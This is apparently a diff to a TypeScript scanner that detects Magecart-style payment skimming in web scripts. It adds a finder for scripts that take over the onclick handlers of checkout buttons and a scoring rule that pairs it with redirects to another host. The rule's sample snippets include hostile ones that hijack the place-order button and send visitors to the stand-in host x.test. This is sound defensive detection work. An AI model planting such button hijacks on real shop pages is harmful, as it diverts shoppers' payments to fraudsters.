@@ -20,6 +20,7 @@ import {
   text,
   unmasked,
 } from './finders.ts';
+import { redirectsElsewhere } from './redirects.ts';
 import { imitatesService } from './services.ts';
 
 const checkoutWords = [
@@ -79,6 +80,29 @@ const paymentSelectors: Finder = ({ methods, reading: { tree, values } }) =>
       return call?.type === 'CallExpression' && isPaymentName(values.text(call.arguments[0]) ?? '');
     }),
   );
+
+/** Handlers of buttons with a name that indicates payment that the script replaces, given as attributes. */
+const paymentButtons: Finder = (facts) => {
+  const { methods: called, reading } = facts;
+  const { tree, values } = reading;
+  const isReplaced = (call: AnyNode | undefined): boolean => {
+    if (call?.type !== 'CallExpression' || values.text(call.arguments[0]) !== 'onclick') return false;
+    const first = tree.numberOf(call);
+    // The selector is in the same chain, or the script searches for such elements elsewhere.
+    const inside = tree.nodes.slice(first, (tree.lasts[first] ?? first) + 1);
+    return inside.some((it) => it.type === 'Literal' && isPaymentName(values.text(it) ?? ''));
+  };
+  const attributes = ['attr', 'setAttribute'].flatMap((name) => called.get(name) ?? []);
+  const removed = ['removeAttribute', 'removeAttr'].flatMap((name) => called.get(name) ?? []);
+  const taken = removed.filter((number) => {
+    const call = tree.node(number);
+    return call?.type === 'CallExpression' && values.text(call.arguments[0]) === 'onclick';
+  });
+  return [
+    ...attributes.filter((number) => isReplaced(tree.node(number))),
+    ...(paymentSelectors(facts).length > 0 ? taken : []),
+  ];
+};
 
 /** Assignments of a URL on another host to a form of the page, not to one that the script creates. */
 const formTargets: Finder = ({ reading: { tree, values } }) => {
@@ -285,6 +309,22 @@ export const magecartFeatures: readonly Feature[] = [
         `document.querySelectorAll('form').forEach((f) => { if (f.querySelector('[name=cvv]')) f.action = '//x.test/p'; });`,
       ],
       other: [`document.querySelector('form.search').action = 'https://x.test/p';`],
+    },
+  },
+  {
+    id: 'payment-led-elsewhere',
+    what: 'Takes over the buttons of the payment and leads the visitor to another host',
+    points: 100,
+    find: allOf(paymentButtons, redirectsElsewhere),
+    samples: {
+      matching: [
+        `jQuery('#checkout-place-order').attr('onclick', 'go();'); function go() { location.href = 'https://x.test/pay?' + btoa(location.host); }`,
+        `var b = document.querySelector('#payment-buttons button'); b.removeAttribute('onclick'); b.onclick = function () { location.replace('//x.test/pay'); };`,
+      ],
+      other: [
+        `jQuery('#checkout-place-order').attr('onclick', 'go();'); function go() { location.href = '/pay'; }`,
+        `jQuery('#menu').attr('onclick', 'go();'); function go() { location.href = 'https://x.test/help'; }`,
+      ],
     },
   },
   {
